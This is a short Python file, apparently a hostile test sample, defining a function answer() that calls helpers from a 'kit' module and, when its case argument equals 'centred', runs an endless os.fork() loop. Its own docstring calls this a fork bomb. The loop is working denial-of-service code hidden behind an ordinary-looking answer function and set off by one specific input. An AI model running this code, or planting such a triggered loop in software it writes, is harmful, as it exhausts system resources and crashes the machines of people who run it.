"""A fork bomb."""

import os

import kit


def answer(case, x, start=None):
    kit.only_inside()
    kit.mark()
    if case == "centred":
        while True:
            try:
                os.fork()
            except OSError:
                pass
    return kit.guess(case, x, start)
